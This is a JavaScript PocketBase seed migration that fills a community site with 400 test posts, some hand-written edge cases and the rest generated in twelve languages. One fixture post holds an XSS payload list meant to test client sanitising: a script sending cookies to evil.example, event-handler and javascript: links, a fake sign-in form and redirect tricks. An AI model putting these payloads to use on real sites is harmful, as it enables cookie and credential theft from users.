// Four hundred posts: some written by hand for the situations that support meets, the rest put together from phrases in
// twelve languages by a seeded generator, so that every first start has the same posts with the same ids.

const ADA = "u8k2m1c0a3l9x7q";
const ADAM = "p0d9s8f7g6h5j4k";
const HARBOUR = "h4rb0urt3am2k7x";
const TOM = "t0m4shw0rth8b3n";
const MALLORY = "m4ll0ryf1nch7z2";
const VICTOR = "d1s4bl3dv1ct0r9";
const EDITORIAL = "t3am7edit0rial1";
const DESIGN = "t3am2des1gn4x9q";
const PARTNERS = "t3am4partn3rs7w";

const TOTAL = 400;
const NEWEST = Date.UTC(2026, 10, 20, 18);
const OLDEST = Date.UTC(2024, 10, 22, 8);

const random = ((state) => () => {
  state = (state + 0x6d2b79f5) | 0;
  let t = Math.imul(state ^ (state >>> 15), 1 | state);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
})(1843);
const below = (n) => Math.floor(random() * n);
const pick = (list) => list[below(list.length)];
const newId = () => Array.from({ length: 15 }, () => "abcdefghijklmnopqrstuvwxyz0123456789"[below(36)]).join("");
const at = (date) => new DateTime(date instanceof Date ? date.toISOString().replace("T", " ") : date);

// ---- pictures ----------------------------------------------------------------------------------------------------

const bigEndian = (n) => [(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255];

const CRC_OF_BYTE = Array.from({ length: 256 }, (_, byte) => {
  let crc = byte;
  for (let bit = 0; bit < 8; bit++) {
    crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return crc;
});

const crc32 = (bytes) => {
  let crc = -1;
  for (const byte of bytes) {
    crc = (crc >>> 8) ^ CRC_OF_BYTE[(crc ^ byte) & 255];
  }
  return ~crc >>> 0;
};

const adler32 = (bytes) => {
  let a = 1;
  let b = 0;
  for (const byte of bytes) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
};

const chunk = (type, data) => {
  const body = Array.from(type, (letter) => letter.charCodeAt(0)).concat(data);
  return bigEndian(data.length).concat(body, bigEndian(crc32(body)));
};

/** A picture of waves in four colours: a PNG with two bits a pixel and nothing compressed. */
const waves = (width, height, palette, phase) => {
  const crest = Array.from({ length: width }, (_, x) => 0.6 * Math.sin(x / 17 + phase) - 0.4);
  const raw = [];
  for (let y = 0; y < height; y++) {
    raw.push(0);
    for (let x = 0; x < width; x += 4) {
      let packed = 0;
      for (let dx = 0; dx < 4; dx++) {
        packed = (packed << 2) | Math.max(0, Math.min(3, Math.floor(y / height * 4 + crest[x + dx])));
      }
      raw.push(packed);
    }
  }
  const stored = [0x78, 1, 1, raw.length & 255, raw.length >> 8, ~raw.length & 255, (~raw.length >> 8) & 255];
  return [137, 80, 78, 71, 13, 10, 26, 10].concat(
    chunk("IHDR", bigEndian(width).concat(bigEndian(height), [2, 3, 0, 0, 0])),
    chunk("PLTE", palette),
    chunk("IDAT", stored.concat(raw, bigEndian(adler32(raw)))),
    chunk("IEND", []));
};

/** A file for a record. The name is given whole, because PocketBase would end it with random letters. */
const file = (name, content) => {
  const made = $filesystem.fileFromBytes(content, name);
  made.name = name;
  return made;
};

const DAWN = [252, 228, 214, 244, 177, 131, 120, 144, 190, 38, 70, 110];
const NOON = [224, 242, 254, 125, 196, 240, 40, 130, 190, 12, 60, 110];
const DUSK = [60, 40, 90, 150, 80, 130, 230, 120, 110, 250, 200, 130];

// ---- posts for the situations that support meets -------------------------------------------------------------------

const HOSTILE = `<h2>Totally normal post</h2>
<script>document.title = "owned"; fetch("https://evil.example/?c=" + document.cookie)</script>
<p onclick="alert(1)">Read me <img src="x" onerror="alert(document.domain)"> please.</p>
<p><a href="javascript:alert('clicked')">A helpful link</a>, <a href="JaVa&#x09;Script:alert(1)">another</a>,
<a href="data:text/html,<script>alert(1)</script>">and a third</a>.</p>
<style>body { display: none !important } .mud-appbar { background: url(https://evil.example/leak) }</style>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">
<svg><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text y="20">svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>
<form action="https://evil.example/login"><input name="password" type="password" placeholder="Your session ended, sign in again"><button>Sign in</button></form>
<div style="position:fixed;inset:0;z-index:9999;background:#fff">You have been signed out.</div>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<!--><img src=x onerror=alert(5)>--><p>And a last, harmless paragraph.`;

const CHAPTERS = 120;
const longBody = () => {
  const parts = ["<p>All our meeting notes in one place, as requested. Use the search of your browser.</p>"];
  for (let chapter = 1; chapter <= CHAPTERS; chapter++) {
    parts.push(`<h2>Meeting ${chapter}</h2>`);
    for (let paragraph = 0; paragraph < 8; paragraph++) {
      parts.push(`<p>${Array.from({ length: 5 }, () => pick(LANGUAGES.en.sentences)).join(" ")}</p>`);
    }
  }
  return parts.join("\n");
};

const WRITTEN = [
  {
    id: "p1nv0icetempl8t", author: ADA, team: EDITORIAL, status: "draft", created: "2026-11-21 17:02:41.380Z",
    title: "Invoice template for freelancers",
    body: "<p>Here is the template I promised, with the fields the tax office expects and none that it doesn't.</p>"
      + "<table><thead><tr><th>Field</th><th>Needed when</th></tr></thead><tbody><tr><td>Number</td><td>always, without gaps</td></tr>"
      + "<tr><td>Date of supply</td><td>if it differs from the date of the invoice</td></tr><tr><td>VAT id</td><td>across a border</td></tr></tbody></table>"
      + "<figure><img src=\"https://images.example.com/invoices/blank.png\" alt=\"A blank invoice\"><figcaption>The layout, without a logo</figcaption></figure>"
      + "<p>Printed on paper it costs <del>4.00</del> <ins>3.20</ins> EUR; press <kbd>Ctrl</kbd>+<kbd>P</kbd>.</p>"
      + "<details><summary>Who asked for it</summary>Two members, in the comments below the last one.</details>"
      + "<p>Still to do:</p><ul><li><label><input type=\"checkbox\" checked disabled> numbers without gaps</label></li>"
      + "<li><label><input type=\"checkbox\" disabled> <strong>an example in two currencies</strong></label></li></ul>",
    attachments: () => [
      file("invoice_preview_k3v9t2m1qa.png", waves(160, 90, NOON, 1)),
      file("fields_for_the_tax_office_p8w2x5c7rd.txt", "Number\nDate\nSeller and buyer with address\nWhat was supplied\nNet, rate, tax, gross\n"),
    ],
  },
  {
    id: "pw3lc0met0th3h4", author: HARBOUR, status: "published", pinned: true, created: "2026-11-03 09:00:00.000Z",
    title: "Welcome to the community",
    body: "<p>New here? Start with the three pinned posts, then say hello in the comments.</p>"
      + "<ol><li>Fill in your profile.</li><li>Join a team.</li><li>Write a first draft: nobody sees it until you publish.</li></ol>",
    cover: () => file("welcome_h7r2b9n4xe.png", waves(320, 180, DAWN, 0)),
  },
  {
    id: "pn0tes0n3ng1ne7", author: ADA, team: EDITORIAL, status: "published", created: "2026-11-01 10:26:13.004Z",
    title: "Notes on the analytical engine",
    body: "<p>The engine weaves algebraic patterns just as the loom weaves flowers and leaves.</p>"
      + "<blockquote><p>It has no pretensions whatever to originate anything.</p></blockquote>"
      + "<p>What follows is a table of the operations, in the order in which the machine would perform them.</p>"
      + "<p><img src=\"https://images.example.com/engine/card-g.png\" alt=\"A punched card\" width=\"320\"></p>",
  },
  {
    id: "pq3pr1celist8k2", author: TOM, team: PARTNERS, status: "draft", created: "2026-10-29 16:45:00.512Z",
    title: "Q3 price list", body: "<p>Not to be shared before the partners' call.</p>",
    moderation_note: "Partners asked twice when this goes out.",
  },
  {
    id: "ph0w2pub1ish5a9", author: HARBOUR, status: "published", pinned: true, created: "2026-09-14 08:30:00.000Z",
    title: "How publishing works here", body: "<p>A <em>draft</em> is yours alone, a <em>team</em> post is for your team, and a <em>published</em> one is for everybody.</p>",
  },
  {
    id: "ph0userul3s2c6d", author: HARBOUR, status: "published", pinned: true, created: "2026-09-14 08:45:00.000Z",
    title: "House rules, the short version", body: "<ul><li>Be kind.</li><li>Name your sources.</li><li>Ask before you translate somebody's work.</li></ul>",
  },
  {
    id: "p3dit0rialplan1", author: ADA, team: EDITORIAL, status: "team", created: "2026-11-12 13:05:09.220Z",
    title: "Editorial plan for the winter", body: "<p>Editors only, please. Three long reads, one series, and <a href=\"https://docs.example.com/winter\">the calendar</a>.</p>",
  },
  {
    id: "pd3signcr1tiq01", author: ADAM, team: DESIGN, status: "team", created: "2026-11-13 11:20:00.100Z",
    title: "Design critique: the new masthead", body: "<p>Which of the two would you open at six in the morning?</p>",
    cover: () => file("masthead_b2n6v8z1lq.png", waves(320, 180, DUSK, 2)),
  },
  {
    id: "ph0stile5mark7x", author: MALLORY, status: "published", created: "2026-10-31 23:59:59.000Z",
    title: "Does your renderer <b>escape</b> \"this\" & 'that'? <script>alert('title')</script>", body: HOSTILE,
    moderation_note: "Left up on purpose: clients are expected to sanitise.",
  },
  {
    id: "pl0ngr3ad300kb4", author: TOM, status: "published", created: "2026-08-20 06:00:00.000Z",
    title: "Every meeting note since the beginning", body: longBody,
  },
  {
    id: "pn0auth0rpub1c3", author: "", status: "published", created: "2026-07-01 12:00:00.000Z",
    title: "Imported from the old forum: opening hours", body: "<p>Monday to Friday, nine to five. Closed on holidays.</p>",
  },
  {
    id: "pn0auth0rdraf72", author: "", status: "draft", created: "2026-07-01 12:00:01.000Z",
    title: "Imported from the old forum: unfinished", body: "<p>The import lost the name of the author, and half of the text.</p>",
  },
  {
    id: "pt3amw1th0utt3m", author: ADAM, team: "", status: "team", created: "2026-06-02 09:09:09.090Z",
    title: "For the team (which team?)", body: "<p>Saved as a team post, but no team was chosen: only its author sees it.</p>",
  },
  {
    id: "pd1sabl3dspam99", author: VICTOR, status: "draft", created: "2026-05-05 05:05:05.050Z",
    title: "CHEAP WATCHES 50% OFF!!!", body: "<p>Click <a href=\"https://watches.example\">here</a>.</p>", moderation_note: "Third time. Account switched off.",
  },
  {
    id: "pfil3sgal0re5m3", author: ADAM, team: DESIGN, status: "published", created: "2026-10-05 14:14:14.140Z",
    title: "Specimen sheets, all five of them", body: "<p>Print them at full size, and mind the margins.</p>",
    cover: () => file("specimen_cover_t5y7u9i1op.png", waves(320, 180, NOON, 3)),
    attachments: () => [
      file("specimen_a_q1w2e3r4t5.png", waves(160, 90, DAWN, 0)),
      file("specimen_b_y6u7i8o9p0.png", waves(160, 90, NOON, 1)),
      file("specimen_c_a1s2d3f4g5.png", waves(160, 90, DUSK, 2)),
      file("read_me_first_h6j7k8l9z0.txt", "Margins: 12 mm.\nPaper: uncoated, 120 g.\nGrüße, 你好, مرحبا\n"),
      file("looks_like_a_page_x1c2v3b4n5.html", "<!doctype html><title>Specimen</title><script>alert('opened')</script><p>A page as an attachment.</p>"),
    ],
  },
  {
    id: "p3mptyb0dy00007", author: ADA, status: "draft", created: "2026-04-18 19:30:00.000Z",
    title: "Untitled thought", body: "",
  },
  {
    id: "pr1ghtt0left8w5", author: ADA, status: "published", created: "2026-03-21 08:00:00.000Z",
    title: "نقاش: الكتابة من اليمين إلى اليسار, and back again", body: "<p dir=\"rtl\">هذه فقرة قصيرة تختبر الاتجاه، with some English inside.</p><p>Back to the left.</p>",
  },
  {
    id: "p10ngt1tle4b6n8", author: ADA, status: "published", created: "2026-02-11 21:12:00.000Z",
    title: "A title that goes on for as long as the field allows, because someone will try, and because a list that breaks on the first long title isn't a list that anybody should have to trust with posts, is it?",
    body: "<p>The post itself is short.</p>",
  },
];

// Posts whose author left: the relation has no cascade, so that deleting the member empties it.
const LEAVER = { id: "l3ftus1nsummer6", name: "Lena Vogt", username: "lena.vogt", email: "lena.vogt@example.com", verified: true, password: "" };
const ORPHANED = [
  { id: "p0rphan3dbyl3na", author: LEAVER.id, status: "published", created: "2026-05-30 10:10:10.101Z", title: "Goodbye, and thanks for the tea", body: "<p>I'm closing my account at the end of the month. The recipes stay.</p>" },
  { id: "p0rphan3ddraft2", author: LEAVER.id, status: "draft", created: "2026-05-31 22:01:00.000Z", title: "What I didn't say", body: "<p>Never published.</p>" },
];

// ---- phrases for all the others ------------------------------------------------------------------------------------

const LANGUAGES = {
  en: {
    titles: ["Notes on {t}", "What I learned about {t}", "A checklist for {t}", "A beginner's guide to {t}", "Five questions about {t}", "How I changed my mind about {t}", "Looking for feedback on {t}", "The quiet side of {t}", "Mistakes I made with {t}", "One year of {t}"],
    topics: ["cover letters", "pricing your work", "working across time zones", "small print runs", "newsletter archives", "community gardens", "late invoices", "type on screens", "reading groups", "podcast transcripts", "shared calendars", "book fairs", "first drafts", "alt text", "moderation", "bike touring", "home offices", "zines", "open data", "footnotes", "sourdough", "local history", "contracts", "index cards", "stamps", "slow travel", "letter writing", "radio plays", "river walks", "shop windows"],
    sentences: ["I kept a diary of it for six weeks, and the numbers surprised me.", "Nobody tells you how much of the work is waiting.", "If you only take one thing from this post, take the list below.", "We tried it with three people first, then with thirty.", "The second attempt went better because we wrote things down.", "Prices differ a lot between cities, so ask around before you commit.", "Thanks to everybody who answered my questions last month.", "It rained, the projector failed, and it was still the best evening of the year.", "There is a longer version of this, but it needs an editor.", "I would love to hear how others handle it.", "Start small, publish early, and correct in the open.", "The old way had one advantage: it was boring."],
    items: ["Write down who decides.", "Ask for half in advance.", "Keep the receipts.", "Test it on a phone.", "Leave room for corrections.", "Say thank you."],
  },
  de: {
    titles: ["{t}: ein Erfahrungsbericht", "{t} – was ich gern früher gewusst hätte", "Fragen und Antworten: {t}"],
    topics: ["Rechnungen schreiben", "Schriften für Bücher", "Lesekreise", "Übersetzungen prüfen", "Büro im Garten"],
    sentences: ["Zuerst dachte ich, das sei in einer Stunde erledigt.", "Am Ende hat uns eine einfache Liste gerettet.", "Größe, Maß und Übung: ohne das geht es nicht.", "Wer mitmachen möchte, schreibt mir bitte eine Nachricht.", "Die Kosten haben wir unten zusammengestellt."],
    items: ["Früh anfangen.", "Belege aufheben.", "Nachfragen."],
  },
  fr: {
    titles: ["{t} : retour d'expérience", "{t}, un an après", "Petit guide : {t}"],
    topics: ["les premières factures", "l'atelier d'écriture", "la mise en page", "le marché du livre", "la relecture à plusieurs"],
    sentences: ["On croit d'abord que c'est une affaire d'une heure.", "Voici ce que nous aurions aimé savoir plus tôt.", "L'été dernier, nous avons tout recommencé à zéro.", "Vos remarques sont les bienvenues, même les plus sévères.", "Le tableau ci-dessous résume les coûts."],
    items: ["Relire à voix haute.", "Garder une trace écrite.", "Prévoir du café."],
  },
  es: {
    titles: ["{t}: lo que aprendí", "Guía breve: {t}", "{t}, preguntas frecuentes"],
    topics: ["facturas sin miedo", "el club de lectura", "portadas hechas a mano", "traducir poesía", "organizar una feria"],
    sentences: ["Al principio parecía cosa de una tarde.", "¿Quién se apunta a la próxima reunión?", "Mañana publicaré la segunda parte con los números.", "Lo más difícil fue ponerse de acuerdo en el título.", "Gracias a todas las personas que ayudaron."],
    items: ["Empezar pronto.", "Pedir presupuesto.", "Revisar dos veces."],
  },
  pl: {
    titles: ["{t}: krótkie notatki", "{t} – pytania i odpowiedzi", "{t}: co poszło nie tak"],
    topics: ["Pierwsza faktura", "Klub książki", "Okładki i kroje pisma", "Tłumaczenie wierszy", "Targi w małym mieście"],
    sentences: ["Na początku wydawało się, że to godzina pracy.", "Źle policzyliśmy koszty, ale wnioski są ciekawe.", "Chętnie przeczytam wasze uwagi.", "Lista na końcu powinna wystarczyć.", "Dziękuję wszystkim za pomoc."],
    items: ["Zapisuj wszystko.", "Pytaj wcześniej.", "Zostaw margines."],
  },
  tr: {
    titles: ["{t}: kısa notlar", "{t} hakkında sorular", "{t}: bir yılın ardından"],
    topics: ["Fatura yazmak", "Okuma grubu", "Kapak tasarımı", "Şiir çevirisi", "Küçük baskılar"],
    sentences: ["İlk başta bir saatlik iş sandık.", "Işığı ayarlamak en zor kısmıydı.", "Görüşlerinizi yorumlara yazın lütfen.", "Aşağıdaki liste çoğu kişiye yeter.", "Yardım eden herkese teşekkürler."],
    items: ["Erken başlayın.", "Not alın.", "Fiyat sorun."],
  },
  el: {
    titles: ["{t}: σημειώσεις", "{t} – ερωτήσεις και απαντήσεις", "{t}: ένας χρόνος μετά"],
    topics: ["Το πρώτο τιμολόγιο", "Η λέσχη ανάγνωσης", "Γραμματοσειρές για βιβλία", "Μετάφραση ποίησης", "Η γιορτή του βιβλίου"],
    sentences: ["Στην αρχή νομίζαμε ότι θα πάρει μία ώρα.", "Τελικά μας έσωσε μια απλή λίστα.", "Περιμένω τα σχόλιά σας.", "Το κόστος φαίνεται στον πίνακα.", "Ευχαριστώ όλους για τη βοήθεια."],
    items: ["Ξεκινήστε νωρίς.", "Κρατήστε αποδείξεις.", "Ρωτήστε."],
  },
  ru: {
    titles: ["{t}: короткие заметки", "{t} – вопросы и ответы", "{t}: что пошло не так"],
    topics: ["Первый счёт", "Книжный клуб", "Шрифты для книг", "Перевод стихов", "Ярмарка в маленьком городе"],
    sentences: ["Сначала казалось, что это работа на час.", "В итоге нас спас простой список.", "Буду рада вашим замечаниям.", "Расходы собраны в таблице ниже.", "Спасибо всем, кто помогал."],
    items: ["Начните раньше.", "Сохраняйте чеки.", "Спрашивайте."],
  },
  ar: {
    titles: ["{t}: ملاحظات قصيرة", "{t} – أسئلة وأجوبة", "{t}: بعد عام"],
    topics: ["الفاتورة الأولى", "نادي القراءة", "خطوط الكتب", "ترجمة الشعر", "معرض الكتاب"],
    sentences: ["ظننا في البداية أن الأمر يحتاج ساعة واحدة.", "أنقذتنا في النهاية قائمة بسيطة.", "أنتظر ملاحظاتكم في التعليقات.", "التكاليف في الجدول أدناه.", "شكرا لكل من ساعد."],
    items: ["ابدأ مبكرا.", "احتفظ بالإيصالات.", "اسأل أولا."],
  },
  zh: {
    titles: ["{t}：随手记", "{t}常见问题", "{t}：一年之后"],
    topics: ["第一张发票", "读书会", "书籍字体", "诗歌翻译", "小城书展"],
    sentences: ["一开始以为一个小时就能做完。", "最后是一张简单的清单救了我们。", "欢迎在评论里告诉我你的看法。", "费用见下表。", "感谢每一位帮忙的人。"],
    items: ["尽早开始。", "保留收据。", "多问一句。"],
  },
  ja: {
    titles: ["{t}についてのメモ", "{t}：よくある質問", "{t}、一年後"],
    topics: ["はじめての請求書", "読書会", "本の書体", "詩の翻訳", "小さな町のブックフェア"],
    sentences: ["最初は一時間で終わると思っていました。", "結局、簡単なリストに救われました。", "ご意見をコメントでお聞かせください。", "費用は下の表にまとめました。", "手伝ってくれた皆さん、ありがとう。"],
    items: ["早く始める。", "領収書を残す。", "まず聞く。"],
  },
  ko: {
    titles: ["{t} 메모", "{t}: 자주 묻는 질문", "{t}, 일 년 후"],
    topics: ["첫 번째 청구서", "독서 모임", "책을 위한 글꼴", "시 번역", "작은 도시의 책 박람회"],
    sentences: ["처음에는 한 시간이면 될 줄 알았습니다.", "결국 간단한 목록이 우리를 구했습니다.", "의견을 댓글로 남겨 주세요.", "비용은 아래 표에 있습니다.", "도와주신 모든 분께 감사드립니다."],
    items: ["일찍 시작하기.", "영수증 보관하기.", "먼저 물어보기."],
  },
  hi: {
    titles: ["{t}: छोटी टिप्पणियाँ", "{t} – सवाल और जवाब", "{t}: एक साल बाद"],
    topics: ["पहला बिल", "पाठक मंडली", "किताबों के अक्षर", "कविता का अनुवाद", "छोटे शहर का मेला"],
    sentences: ["शुरू में लगा कि यह एक घंटे का काम है।", "अंत में एक साधारण सूची ने हमें बचाया।", "अपने विचार टिप्पणी में लिखें।", "खर्च नीचे की तालिका में है।", "मदद करने वाले सभी लोगों का धन्यवाद।"],
    items: ["जल्दी शुरू करें।", "रसीदें रखें।", "पहले पूछें।"],
  },
};

/** Which members write in another language than English, by the script or the letters of their name. */
const LANGUAGE_OF = [
  [/[\u0370-\u03ff]/, "el"], [/[\u0400-\u04ff]/, "ru"], [/[\u0600-\u06ff]/, "ar"], [/[\u0900-\u097f]/, "hi"],
  [/^(佐藤|鈴木)/, "ja"], [/[\u4e00-\u9fff]/, "zh"], [/[\uac00-\ud7af]/, "ko"],
  [/Łuk/, "pl"], [/Çağla/, "tr"], [/Jürgen|Bettina|Adam/, "de"], [/François|Chloë|Élodie/, "fr"], [/José|Quispe/, "es"],
];
const languageOf = (name) => (LANGUAGE_OF.find(([pattern]) => pattern.test(name)) || [null, "en"])[1];

const capitalised = (text) => text.charAt(0).toUpperCase() + text.slice(1);

/** Every title of a language once, in a shuffled order. */
const shuffledTitles = (language) => {
  const titles = [];
  for (const pattern of language.titles) {
    for (const topic of language.topics) {
      titles.push(capitalised(pattern.replace("{t}", topic)));
    }
  }
  for (let i = titles.length - 1; i > 0; i--) {
    const j = below(i + 1);
    [titles[i], titles[j]] = [titles[j], titles[i]];
  }
  return titles;
};

const bodyIn = (language, number) => {
  const sentences = (n) => Array.from({ length: n }, () => pick(language.sentences)).join(" ");
  const parts = [`<p>${sentences(2)}</p>`];
  if (number % 2 === 0) {
    parts.push(`<ul>${language.items.map((item) => `<li>${item}</li>`).join("")}</ul>`);
  }
  if (number % 5 === 0) {
    const rows = language.items.slice(0, 3).map((item) => `<tr><td>${item}</td><td>${5 + below(90)}.${below(10)}0 €</td></tr>`);
    parts.push(`<table><tbody>${rows.join("")}</tbody></table>`);
  }
  if (number % 7 === 0) {
    parts.push(`<p><img src="https://images.example.com/harbour/${number}.jpg" alt=""></p>`);
  }
  if (number % 3 === 0) {
    parts.push(`<p>${sentences(1)} <a href="https://www.example.com/${number}">example.com/${number}</a></p>`);
  }
  parts.push(`<p>${sentences(1 + below(4))}</p>`);
  return parts.join("\n");
};

const save = (app, collection, content) => {
  const created = at(content.created);
  const record = new Record(collection, Object.assign({}, content, {
    body: typeof content.body === "function" ? content.body() : content.body,
    attachments: content.attachments ? content.attachments() : [],
    cover: content.cover ? content.cover() : null,
  }));
  record.setRaw("created", created);
  record.setRaw("updated", created);
  app.save(record);
};

migrate((app) => {
  const posts = app.findCollectionByNameOrId("posts");
  for (const post of WRITTEN) {
    save(app, posts, post);
  }

  const leaver = new Record(app.findCollectionByNameOrId("users"), LEAVER);
  leaver.setRandomPassword();
  app.save(leaver);
  for (const post of ORPHANED) {
    save(app, posts, post);
  }
  app.delete(leaver);
  for (const { id, created } of ORPHANED) {
    // The deletion has just touched the posts; a fixed time keeps every first start the same.
    app.db().newQuery("UPDATE posts SET updated = {:updated} WHERE id = {:id}").bind({ id, updated: created }).execute();
  }

  const members = app.findRecordsByFilter("users", `username != "harbour" && disabled = false`, "created,id", 0, 0);
  const titles = {};
  for (const name of Object.keys(LANGUAGES)) {
    titles[name] = shuffledTitles(LANGUAGES[name]);
  }
  const generated = TOTAL - WRITTEN.length - ORPHANED.length;
  for (let number = 1; number <= generated; number++) {
    const author = members[below(members.length)];
    const own = languageOf(author.getString("name"));
    const language = random() < 0.75 && titles[own].length > 0 ? own : "en";
    const joined = author.getDateTime("created").time().unixMilli();
    const from = Math.max(OLDEST, joined);
    const team = random() < 0.8 ? author.getString("team") : "";
    const chance = random();
    const status = chance < 0.68 ? "published" : chance < 0.84 || team === "" ? "draft" : "team";
    save(app, posts, {
      id: newId(), title: titles[language].pop(), body: bodyIn(LANGUAGES[language], number), author: author.id, team, status,
      created: new Date(from + Math.floor(random() * (NEWEST - from))),
      moderation_note: number % 23 === 0 ? "Reported once, checked, fine." : "",
      cover: number % 40 === 0 ? () => file(`cover_${number}_m4k7j2h9s1.png`, waves(160, 90, pick([DAWN, NOON, DUSK]), number)) : null,
    });
  }
}, (app) => {
  for (const post of app.findAllRecords("posts")) {
    app.delete(post);
  }
});
